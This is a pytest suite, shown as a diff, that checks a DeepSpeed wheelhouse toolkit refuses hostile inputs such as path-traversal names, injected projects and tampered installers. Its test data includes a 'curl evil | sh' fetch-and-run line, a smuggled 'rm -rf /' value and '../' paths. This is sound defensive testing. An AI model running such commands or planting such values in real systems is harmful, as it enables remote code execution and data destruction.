@@ -1,0 +1,583 @@
+"""The hostile-input suite: every bad or hostile input is refused with one clear message and its exit
+code, and leaves nothing half-written and nothing touched outside the toolkit's own folders.
+
+Wheels here are FAKE (tests/fakes.py: zips with a valid build manifest, METADATA and a smoke
+report); the integration tests run the same rules on real DeepSpeed wheels.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import socket
+import stat
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fakes import NAME, fake_wheel
+
+from builder import node
+from builder.contracts import BuildManifest, SmokeReport
+from builder.diagnose import find_failures
+from builder.errors import PublishError, RecipeError, SmokeError, WheelhouseError
+from builder.node import INSTALLER, InstallError, ManifestError, Node
+from builder.ops import OpInfo
+from builder.provision import _FETCH, installer_sha256
+from builder.recipe import load_recipe
+from builder.smoke import load_report
+from builder.wheelhouse import prune, publish, repair, verify
+
+ROOT = Path(__file__).resolve().parents[1]
+DEFAULT_RECIPE = (ROOT / "recipes" / "cpu.toml").read_text()
+AVX2 = frozenset({"sse4_2", "popcnt", "avx", "avx2", "fma", "bmi2"})
+CPU_NODE = Node("cp311", "2.13.0+cpu", None, (), AVX2)
+
+
+@pytest.fixture
+def house(tmp_path: Path) -> Path:
+    """A wheelhouse with one published FAKE wheel."""
+    dist = tmp_path / "dist"
+    dist.mkdir()
+    target = tmp_path / "house"
+    publish([fake_wheel(dist)], target)
+    assert verify(target) == []
+    return target
+
+
+def edit_manifest(house: Path, change: Any) -> None:
+    data = json.loads((house / "manifest.json").read_text())
+    change(data)
+    (house / "manifest.json").write_text(json.dumps(data))
+
+
+def builder(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    return subprocess.run([sys.executable, "-m", "builder", *args], cwd=cwd, capture_output=True, text=True, env=env)
+
+
+# ---------------------------------------------------------------- names that are paths
+
+
+def rename_entry(data: dict[str, Any], new: str) -> None:
+    data["wheels"][new] = data["wheels"].pop(NAME)
+
+
+def test_prune_never_deletes_outside_the_wheelhouse_for_a_dotdot_name(house: Path, tmp_path: Path) -> None:
+    victim = tmp_path / "victim.whl"
+    victim.write_text("precious")
+    edit_manifest(house, lambda d: rename_entry(d, "../victim.whl"))
+    with pytest.raises(WheelhouseError, match=r"'\.\./victim\.whl' is not a wheel file name"):
+        prune(house, [], keep=[])
+    assert victim.read_text() == "precious"
+
+
+def test_verify_reports_a_dotdot_name_without_a_traceback(house: Path) -> None:
+    edit_manifest(house, lambda d: rename_entry(d, "../somewhere/file"))
+    problems = verify(house)
+    assert len(problems) == 1 and "'../somewhere/file' is not a wheel file name" in problems[0]
+
+
+@pytest.mark.spawns
+def test_verify_cli_exits_8_on_a_dotdot_name(house: Path) -> None:
+    edit_manifest(house, lambda d: rename_entry(d, "../somewhere/file"))
+    done = builder("verify", "--wheelhouse", str(house))
+    assert done.returncode == 8 and "Traceback" not in done.stderr
+    assert "is not a wheel file name" in done.stderr
+
+
+@pytest.mark.parametrize(
+    "bad", ["../x-1-py3-none-any.whl", "/etc/x-1-py3-none-any.whl", "a/b-1-py3-none-any.whl",
+            ".hidden-1-py3-none-any.whl", "x-1-py3-none-any.whl\x00", "notawheel.tar.gz", "x..y-1-py3-none-any.whl",
+            "x-1-py3-none-any"]
+)  # fmt: skip
+def test_only_wheel_file_names_are_accepted(bad: str) -> None:
+    with pytest.raises(ManifestError, match="is not a wheel file name"):
+        node.check_wheel_name(bad)
+
+
+def test_install_refuses_a_served_manifest_with_a_path_for_a_name(house: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.whl"
+    edit_manifest(house, lambda d: rename_entry(d, "../../outside.whl"))
+    with pytest.raises(ManifestError, match="is not a wheel file name"):
+        node.load_wheelhouse(str(house))
+    assert not outside.exists()
+
+
+def test_a_journal_naming_a_path_removes_nothing(house: Path, tmp_path: Path) -> None:
+    victim = tmp_path / "victim-1-py3-none-any.whl"
+    victim.write_text("precious")
+    (house / ".publish-journal.json").write_text(json.dumps({"files": {"../victim-1-py3-none-any.whl": "0" * 64}}))
+    repair(house)
+    assert victim.read_text() == "precious"
+
+
+# ---------------------------------------------------------------- injected files
+
+
+def inject_project(house: Path) -> None:
+    (house / "simple" / "evil").mkdir()
+    (house / "simple" / "evil" / "index.html").write_text('<a href="../../evil-1.0-py3-none-any.whl">evil</a>')
+    root = house / "simple" / "index.html"
+    root.write_text(root.read_text().replace("</body>", '<a href="evil/">evil</a></body>'))
+    (house / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
+
+
+def test_verify_finds_a_project_injected_under_simple(house: Path) -> None:
+    inject_project(house)
+    problems = verify(house)
+    assert "simple/index.html links 'evil/', a project manifest.json does not list" in problems
+    assert "simple/evil: not a project manifest.json lists" in problems
+    assert "evil-1.0-py3-none-any.whl: in the wheelhouse but not in manifest.json" in problems
+
+
+def test_the_node_refuses_a_wheelhouse_with_an_injected_project(house: Path) -> None:
+    inject_project(house)
+    with pytest.raises(ManifestError, match="links projects the manifest does not list: evil/"):
+        node.load_wheelhouse(str(house))
+
+
+def test_verify_finds_a_link_out_of_the_wheelhouse(house: Path) -> None:
+    page = house / "simple" / "deepspeed" / "index.html"
+    page.write_text(page.read_text().replace("../../", "../../../"))
+    assert any("points outside the wheelhouse" in p for p in verify(house))
+
+
+def test_verify_finds_a_tampered_node_installer(house: Path) -> None:
+    tool = house / INSTALLER
+    tool.write_text(tool.read_text() + "\nimport os; os.system('curl evil | sh')\n")
+    assert f"{INSTALLER}: sha256 differs from manifest.json (tampered or replaced)" in verify(house)
+    with pytest.raises(WheelhouseError, match="differs from the sha256 in manifest.json"):
+        installer_sha256(house)
+
+
+def test_verify_finds_a_tool_nobody_published(house: Path) -> None:
+    (house / "tools" / "helper.sh").write_text("echo hi")
+    assert "tools/helper.sh: not in manifest.json" in verify(house)
+
+
+@pytest.mark.spawns
+def test_a_host_never_runs_a_tampered_installer(house: Path, tmp_path: Path) -> None:
+    """The host script's fetch step, run for real: a changed installer is refused, not executed."""
+    digest = installer_sha256(house)
+    tool = house / INSTALLER
+    ok = subprocess.run([sys.executable, "-c", _FETCH, str(tool), str(tmp_path / "a.py"), digest], capture_output=True)
+    assert ok.returncode == 0 and (tmp_path / "a.py").read_bytes() == tool.read_bytes()
+    tool.write_bytes(tool.read_bytes() + b"\n# tampered\n")
+    bad = subprocess.run(
+        [sys.executable, "-c", _FETCH, str(tool), str(tmp_path / "b.py"), digest], capture_output=True, text=True
+    )
+    assert bad.returncode != 0 and "not the installer the wheelhouse published" in bad.stderr
+    assert not (tmp_path / "b.py").exists()
+
+
+# ---------------------------------------------------------------- manifest fields vs the wheel
+
+
+def test_an_edited_torch_field_is_caught_by_verify_and_by_the_node(house: Path) -> None:
+    def retarget(d: dict[str, Any]) -> None:
+        d["wheels"][NAME]["torch"] = "2.14.1+cu130"
+
+    edit_manifest(house, retarget)
+    assert f"{NAME}: torch: manifest says '2.14.1+cu130', the wheel says '2.13.0+cpu'" in verify(house)
+    manifest = node.load_wheelhouse(str(house))
+    chosen = node.choose(manifest, Node("cp311", "2.14.1+cu130", None, (), AVX2))  # the lie makes it fit
+    with pytest.raises(ManifestError, match="disagrees with .*own build manifest"):
+        node.checked_wheel(str(house), chosen)  # ... but the wheel itself says otherwise
+
+
+@pytest.mark.parametrize(
+    ("field", "value"), [("cpu_target", "x86-64"), ("ops", ["cpu_adam", "cpu_lion"]), ("archs", ["9.0"])]
+)
+def test_every_repeated_field_is_checked_against_the_wheel(house: Path, field: str, value: object) -> None:
+    edit_manifest(house, lambda d: d["wheels"][NAME].__setitem__(field, value))
+    assert any(p.startswith(f"{NAME}: {field}: manifest says") for p in verify(house))
+
+
+def test_an_edited_smoke_result_is_caught(house: Path) -> None:
+    edit_manifest(house, lambda d: d["wheels"][NAME]["smoke"]["checks"].__setitem__(
+        "numerics:cpu_adam", {"status": "passed", "detail": "made up"}))  # fmt: skip
+    assert f"{NAME}: the smoke result in manifest.json differs from {NAME}.smoke.json" in verify(house)
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "complaint"),
+    [
+        (("accelerator",), "gpu", "'accelerator' is 'gpu', not one of cpu, cuda"),
+        (("cpu_target",), "native; rm -rf /", "'cpu_target' is 'native; rm -rf /'"),
+        (("archs",), "9.0", "'archs' has the wrong type"),
+        (("archs",), ["sm_99; x"], "'archs' holds an invalid item"),
+        (("sha256",), "xyz", "'sha256' is not valid"),
+        (("python_tag",), "cp312", "'python_tag' is 'cp312' but the file name says 'cp311'"),
+        (("smoke", "passed"), "yes", "'passed' has the wrong type"),
+    ],
+)
+def test_bad_manifest_fields_are_named(house: Path, path: tuple[str, ...], value: object, complaint: str) -> None:
+    def change(d: dict[str, Any]) -> None:
+        target = d["wheels"][NAME]
+        for key in path[:-1]:
+            target = target[key]
+        target[path[-1]] = value
+
+    edit_manifest(house, change)
+    with pytest.raises(ManifestError) as err:
+        node.load_wheelhouse(str(house))
+    assert complaint in err.value.message and "manifest.json" in err.value.message
+
+
+@pytest.mark.parametrize("text", ["{not json", "[]", '{"schema": 99, "wheels": {}}', b"\xff\xfe"])
+def test_a_manifest_that_is_not_one_is_refused_everywhere(house: Path, tmp_path: Path, text: str | bytes) -> None:
+    path = house / "manifest.json"
+    path.write_bytes(text if isinstance(text, bytes) else text.encode())
+    assert len(verify(house)) == 1
+    with pytest.raises(ManifestError):
+        node.load_wheelhouse(str(house))
+    with pytest.raises(WheelhouseError):
+        publish([fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"))], house)
+    assert path.read_bytes() == (text if isinstance(text, bytes) else text.encode())  # not overwritten
+
+
+def test_a_smoke_report_that_is_not_json_is_a_clear_error(tmp_path: Path) -> None:
+    wheel = fake_wheel(tmp_path)
+    (tmp_path / f"{NAME}.smoke.json").write_text("{oops")
+    with pytest.raises(SmokeError, match="smoke.json is not valid JSON"):
+        load_report(wheel)
+
+
+def test_a_smoke_report_claiming_a_pass_its_checks_deny_is_refused(tmp_path: Path) -> None:
+    wheel = fake_wheel(tmp_path)
+    path = tmp_path / f"{NAME}.smoke.json"
+    data = json.loads(path.read_text())
+    data["checks"].append({"name": "numerics:cpu_adam", "status": "failed", "detail": "off by 1"})
+    path.write_text(json.dumps(data))
+    with pytest.raises(SmokeError, match="'passed' is True, but its checks say False"):
+        load_report(wheel)
+    with pytest.raises(SmokeError):
+        publish([wheel], tmp_path / "house")
+    assert not (tmp_path / "house").exists()
+
+
+def test_a_report_for_other_bytes_is_refused(tmp_path: Path) -> None:
+    wheel = fake_wheel(tmp_path)
+    report = SmokeReport.from_json((tmp_path / f"{NAME}.smoke.json").read_text(), "r")
+    with zipfile.ZipFile(wheel, "a") as zf:
+        zf.writestr("deepspeed/extra", b"changed")
+    assert report.sha256 != node.hashlib.sha256(wheel.read_bytes()).hexdigest()
+    with pytest.raises(PublishError, match="changed after it was smoke-tested"):
+        publish([wheel], tmp_path / "house")
+
+
+def test_a_wheel_without_a_valid_build_manifest_is_refused(tmp_path: Path) -> None:
+    wheel = fake_wheel(tmp_path, cpu_target="x86-64-v9")
+    with pytest.raises(ManifestError, match="'cpu_target' is 'x86-64-v9'"):
+        BuildManifest.from_wheel(wheel)
+    with pytest.raises(PublishError, match="cpu_target"):
+        publish([wheel], tmp_path / "house")
+
+
+def test_publishing_a_path_that_does_not_exist_says_so(tmp_path: Path) -> None:
+    with pytest.raises(PublishError, match="no such wheel: .*missing.whl"):
+        publish([tmp_path / "missing.whl"], tmp_path / "house")
+    assert not (tmp_path / "house").exists()
+
+
+# ---------------------------------------------------------------- downloads and hashes on the node
+
+
+def test_install_dry_run_checks_the_chosen_wheels_hash(house: Path) -> None:
+    (house / NAME).write_bytes((house / NAME).read_bytes() + b"tampered")
+    manifest = node.load_wheelhouse(str(house))
+    with pytest.raises(ManifestError, match="has sha256 .* the manifest says"):
+        node.checked_wheel(str(house), node.choose(manifest, CPU_NODE))
+
+
+def test_a_missing_wheel_is_a_clear_install_error(house: Path) -> None:
+    (house / NAME).unlink()
+    entry = node.choose(node.load_wheelhouse(str(house)), CPU_NODE)
+    with pytest.raises(InstallError, match=f"cannot read .*{re.escape(NAME)}: No such file"):
+        node.checked_wheel(str(house), entry)
+
+
+def test_a_404_from_a_served_wheelhouse_is_a_clear_install_error(house: Path) -> None:
+    import functools
+    import http.server
+    import threading
+
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(house))
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        base = node.wheelhouse_base(f"http://127.0.0.1:{server.server_address[1]}")
+        manifest = node.load_wheelhouse(base)
+        (house / NAME).unlink()
+        with pytest.raises(InstallError, match="HTTP 404"):
+            node.checked_wheel(base, node.choose(manifest, CPU_NODE))
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_file_urls_are_accepted(house: Path) -> None:
+    assert node.wheelhouse_base(house.as_uri()) == str(house)
+    assert node.load_wheelhouse(node.wheelhouse_base(house.as_uri() + "/")).wheels
+    with pytest.raises(InstallError, match="must name a local folder"):
+        node.wheelhouse_base("file://otherhost/x")
+    with pytest.raises(InstallError, match="unsupported scheme ftp"):
+        node.wheelhouse_base("ftp://host/x")
+
+
+# ---------------------------------------------------------------- -march=native
+
+
+def native(flags: list[str]) -> node.WheelEntry:
+    base = _CPU_ENTRY.to_json()
+    base.update(cpu_target="native", cpu_flags=flags)
+    return node.parse_wheel_entry(NAME, base, "test")
+
+
+_CPU_ENTRY = node.parse_wheel_entry(
+    NAME,
+    {"sha256": "0" * 64, "version": "0.19.8+cpu.torch2.13", "recipe": "cpu", "accelerator": "cpu",
+     "python_tag": "cp311", "torch": "2.13.0+cpu", "cuda": None, "archs": [], "cpu_target": "x86-64-v3",
+     "ops": ["cpu_adam"], "smoke": {"passed": True, "finished_at": "", "checks": {"i": {"status": "passed",
+     "detail": ""}}}},
+    "test",
+)  # fmt: skip
+
+
+def test_a_native_wheel_fits_only_a_node_with_every_build_host_flag() -> None:
+    built_on = ["avx2", "avx512f", "fma", "sse4_2"]
+    assert node.mismatches(native(built_on), Node("cp311", None, None, (), frozenset(built_on) | {"x"})) == []
+    why = node.mismatches(native(built_on), Node("cp311", None, None, (), AVX2))
+    assert why == ["CPU ops built with -march=native on a CPU with avx512f, which this node lacks"]
+
+
+def test_a_native_wheel_without_recorded_flags_fits_no_node() -> None:
+    assert "flags were not recorded" in node.mismatches(native([]), Node("cp311", None, None, (), AVX2))[0]
+    assert "node's CPU flags are unknown" in node.mismatches(native(["avx2"]), Node("cp311", None, None, ()))[0]
+
+
+# ---------------------------------------------------------------- permissions and interrupted publishes
+
+
+def test_published_files_are_world_readable_whatever_the_umask(tmp_path: Path) -> None:
+    old = os.umask(0o077)
+    try:
+        (tmp_path / "dist").mkdir()
+        house = tmp_path / "house"
+        publish([fake_wheel(tmp_path / "dist")], house)
+    finally:
+        os.umask(old)
+    for path in [house, *house.rglob("*")]:
+        if path.name == ".publish.lock":
+            continue
+        mode = stat.S_IMODE(path.stat().st_mode)
+        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))
+
+
+SYSTEM_PYTHON = shutil.which("python3", path="/usr/bin:/bin")
+
+
+@pytest.mark.spawns
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("runuser"), reason="needs root and runuser to become nobody")
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="needs a system python3 that user nobody may run")
+def test_an_unprivileged_user_can_read_and_check_the_wheelhouse(tmp_path: Path) -> None:
+    """Published under umask 077 by root; user nobody reads every file and runs the published
+    installer's checks (the standalone copy from tools/, as a node would) on it."""
+    shared = Path("/tmp") / f"shared-wheelhouse-{os.getpid()}"
+    shutil.rmtree(shared, ignore_errors=True)
+    shared.mkdir(mode=0o755)
+    os.chmod(shared, 0o755)
+    try:
+        old = os.umask(0o077)
+        try:
+            (tmp_path / "dist").mkdir()
+            publish([fake_wheel(tmp_path / "dist")], shared / "house")
+        finally:
+            os.umask(old)
+        script = (
+            "import importlib.util, pathlib, sys\n"
+            "h = pathlib.Path(sys.argv[1])\n"
+            "for p in h.rglob('*'):\n"
+            "    p.is_file() and p.name != '.publish.lock' and p.read_bytes()\n"
+            "spec = importlib.util.spec_from_file_location('n', h / 'tools' / 'ds-node-install.py')\n"
+            "node = importlib.util.module_from_spec(spec); sys.modules['n'] = node; spec.loader.exec_module(node)\n"
+            "m = node.load_wheelhouse(str(h))\n"
+            "node.checked_wheel(str(h), next(iter(m.wheels.values())))\n"
+            "print('read', len(m.wheels))\n"
+        )
+        done = subprocess.run(
+            ["runuser", "-u", "nobody", "--", str(SYSTEM_PYTHON), "-c", script, str(shared / "house")],
+            capture_output=True, text=True, cwd="/",
+        )  # fmt: skip
+        assert done.returncode == 0, done.stderr
+        assert done.stdout.strip() == "read 1"
+    finally:
+        shutil.rmtree(shared, ignore_errors=True)
+
+
+def test_leftovers_of_a_killed_publish_are_reported_and_only_ours_removed(house: Path, tmp_path: Path) -> None:
+    # What a publish killed after copying its wheel leaves: the journal, the wheel, a temp file.
+    killed = fake_wheel(tmp_path / "dist", name=NAME.replace("0.19.8", "0.19.9"), payload=b"k")
+    shutil.copyfile(killed, house / killed.name)
+    digest = node.hashlib.sha256(killed.read_bytes()).hexdigest()
+    (house / ".publish-journal.json").write_text(json.dumps({"files": {killed.name: digest}}))
+    (house / ".manifest.json.abc123xy.tmp").write_text("{half")
+    foreign = house / "someone-else-1.0-py3-none-any.whl"
+    foreign.write_bytes(b"theirs")
+    problems = verify(house)
+    assert ".publish-journal.json: left by an interrupted publish (run `python -m builder repair` to remove it)" in (
+        problems
+    )
+    assert ".manifest.json.abc123xy.tmp: left by an interrupted publish" in " ".join(problems)
+    assert f"{killed.name}: in the wheelhouse but not in manifest.json" in problems
+    removed = repair(house)
+    assert sorted(removed) == sorted([killed.name, ".manifest.json.abc123xy.tmp", ".publish-journal.json"])
+    assert foreign.read_bytes() == b"theirs"  # not ours: reported, never deleted
+    assert verify(house) == ["someone-else-1.0-py3-none-any.whl: in the wheelhouse but not in manifest.json"]
+
+
+@pytest.mark.parametrize("where", ["missing", "empty", "file"])
+def test_verify_fails_on_a_missing_or_empty_wheelhouse(tmp_path: Path, where: str) -> None:
+    target = tmp_path / "house"
+    if where == "empty":
+        target.mkdir()
+    elif where == "file":
+        target.write_text("x")
+    assert verify(target) != []
+
+
+def test_verify_fails_on_a_wheelhouse_whose_every_wheel_was_pruned(house: Path) -> None:
+    prune(house, [], keep=[])
+    assert verify(house) == ["manifest.json lists no DeepSpeed wheel: the wheelhouse is empty"]
+
+
+# ---------------------------------------------------------------- the dependency closure
+
+
+def test_the_closure_is_fetched_hash_listed_and_indexed(tmp_path: Path) -> None:
+    """The fetcher is FAKE (no index here); it stands for pip download of DeepSpeed's requirements."""
+    metadata = "Metadata-Version: 2.1\nName: deepspeed\nVersion: 0.19.8\nRequires-Dist: torch==2.13.0\n" \
+        "Requires-Dist: hjson\nRequires-Dist: pydantic>=2\nRequires-Dist: wandb; extra == \"all\"\n"  # fmt: skip
+    asked: list[list[str]] = []
+
+    def fetcher(reqs: Any, tag: str, dest: Path, log: Any) -> list[Path]:
+        asked.append(list(reqs))
+        files = []
+        for name in ("hjson-3.1.0-py3-none-any.whl", "pydantic-2.14.3-py3-none-any.whl"):
+            (dest / name).write_bytes(name.encode())
+            files.append(dest / name)
+        return files
+
+    (tmp_path / "dist").mkdir()
+    target = tmp_path / "house"
+    publish([fake_wheel(tmp_path / "dist", metadata=metadata)], target, fetch_closure=fetcher)
+    assert asked == [["hjson", "pydantic>=2"]]  # no torch, no extras
+    assert verify(target) == []
+    assert "hjson-3.1.0-py3-none-any.whl#sha256=" in (target / "simple" / "hjson" / "index.html").read_text()
+    (target / "hjson-3.1.0-py3-none-any.whl").write_bytes(b"evil")
+    assert "hjson-3.1.0-py3-none-any.whl: sha256 differs from manifest.json (tampered or replaced)" in verify(target)
+
+
+# ---------------------------------------------------------------- recipes and commands
+
+
+@pytest.mark.spawns
+def test_a_recipe_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "latin1.toml"
+    path.write_bytes(DEFAULT_RECIPE.replace('name = "cpu"', 'name = "cpu" # caf\xe9').encode("latin-1"))
+    done = builder("build-wheel", "--recipe", str(path), "--work-dir", str(tmp_path / "w"))
+    assert done.returncode == 2 and "is not UTF-8 text" in done.stderr and "Traceback" not in done.stderr
+    assert not (tmp_path / "w").exists()
+
+
+def test_an_arch_no_gpu_has_is_refused_at_load(tmp_path: Path) -> None:
+    path = tmp_path / "r.toml"
+    path.write_text(DEFAULT_RECIPE.replace('accelerator = "cpu"', 'accelerator = "cuda"\narch = ["sm_99"]'))
+    with pytest.raises(RecipeError, match='arch "sm_99" is not a CUDA architecture'):
+        load_recipe(path)
+
+
+@pytest.mark.spawns
+def test_an_unwritable_work_dir_says_which_option_moves_it(tmp_path: Path) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("")
+    done = builder("build-wheel", "--work-dir", str(blocker / "work"))
+    assert done.returncode == 10, done.stderr
+    assert "cannot write to" in done.stderr and "--work-dir" in done.stderr and "Traceback" not in done.stderr
+
+
+@pytest.mark.spawns
+def test_an_unwritable_wheelhouse_is_refused_before_building(tmp_path: Path) -> None:
+    blocker = tmp_path / "a-file"
+    blocker.write_text("")
+    done = builder("build-wheel", "--work-dir", str(tmp_path / "w"), "--wheelhouse", str(blocker / "house"))
+    assert done.returncode == 10 and "--wheelhouse" in done.stderr
+    assert "pip" not in done.stderr  # nothing was fetched or built
+
+
+@pytest.mark.spawns
+def test_serve_on_a_busy_port_says_so(house: Path) -> None:
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen()
+        port = busy.getsockname()[1]
+        done = builder("serve", "--wheelhouse", str(house), "--port", str(port))
+    assert done.returncode == 3 and f"cannot listen on 127.0.0.1:{port}" in done.stderr and "--port" in done.stderr
+
+
+@pytest.mark.integration
+def test_a_deepspeed_version_that_does_not_exist_exits_4(tmp_path: Path) -> None:
+    path = tmp_path / "r.toml"
+    path.write_text(DEFAULT_RECIPE.replace('version = "0.19.8"', 'version = "0.0.999"'))
+    done = builder("build-wheel", "--recipe", str(path), "--work-dir", str(tmp_path / "w"))
+    assert done.returncode == 4, done.stderr[-2000:]
+    assert "pip could not download the DeepSpeed sdist deepspeed==0.0.999" in done.stderr
+
+
+# ---------------------------------------------------------------- compile failures
+
+# As printed by DeepSpeed 0.19.8's fp_quantizer build with nvcc 13.0 (two extensions at once).
+FP_QUANTIZER_LOG = """\
+building 'deepspeed.ops.fp_quantizer_op' extension
+building 'deepspeed.ops.adam.cpu_adam_op' extension
+[1/2] c++ -MMD -MF /w/src/build/temp.linux-x86_64-cpython-311/3f2a/csrc/adam/cpu_adam.o.d -c /w/src/csrc/adam/cpu_adam.cpp
+FAILED: /w/src/build/temp.linux-x86_64-cpython-311/9b1c/csrc/fp_quantizer/fp_quantize_impl.o
+/usr/local/cuda/bin/nvcc -c /w/src/csrc/fp_quantizer/fp_quantize_impl.cu -o /w/src/build/temp/fp_quantize_impl.o
+/w/src/csrc/fp_quantizer/fp_quantize_impl.cu(234): error: template parameter "q_exponent_bits" may not be redeclared in this scope
+/w/src/csrc/fp_quantizer/fp_quantize_impl.cu(413): error: template parameter "q_exponent_bits" may not be redeclared in this scope
+2 errors detected in the compilation of "/w/src/csrc/fp_quantizer/fp_quantize_impl.cu".
+ninja: build stopped: subcommand failed.
+"""  # noqa: E501
+
+
+def test_a_compile_failure_names_the_op_and_quotes_the_compiler() -> None:
+    ops = [
+        OpInfo("cpu_adam", "DS_BUILD_CPU_ADAM", "deepspeed.ops.adam.cpu_adam_op", True,
+               sources=("csrc/adam/cpu_adam.cpp",)),
+        OpInfo("fp_quantizer", "DS_BUILD_FP_QUANTIZER", "deepspeed.ops.fp_quantizer_op", True, device_code=True,
+               sources=("csrc/fp_quantizer/fp_quantize.cpp", "csrc/fp_quantizer/fp_quantize_impl.cu")),
+    ]  # fmt: skip
+    (failure,) = find_failures(FP_QUANTIZER_LOG, ops)
+    assert failure.op == "fp_quantizer"
+    assert failure.files == ("csrc/fp_quantizer/fp_quantize_impl.o",)
+    text = failure.describe()
+    assert text.startswith("op fp_quantizer failed to compile (csrc/fp_quantizer/fp_quantize_impl.o):")
+    assert 'fp_quantize_impl.cu(234): error: template parameter "q_exponent_bits" may not be redeclared' in text
+    assert "fp_quantize_impl.cu(413)" in text
+
+
+def test_a_gcc_error_in_a_header_is_pinned_on_the_failing_op() -> None:
+    log = (
+        "FAILED: /w/build/temp/abc/csrc/adam/cpu_adam.o\n"
+        "In file included from /w/src/csrc/adam/cpu_adam.cpp:6:\n"
+        "/w/src/csrc/includes/cpu_adam.h:12:10: fatal error: cusparse.h: No such file or directory\n"
+    )
+    ops = [OpInfo("cpu_adam", "X", "deepspeed.ops.adam.cpu_adam_op", True, sources=("csrc/adam/cpu_adam.cpp",))]
+    (failure,) = find_failures(log, ops)
+    assert failure.op == "cpu_adam" and "cusparse.h: No such file or directory" in failure.errors[0]
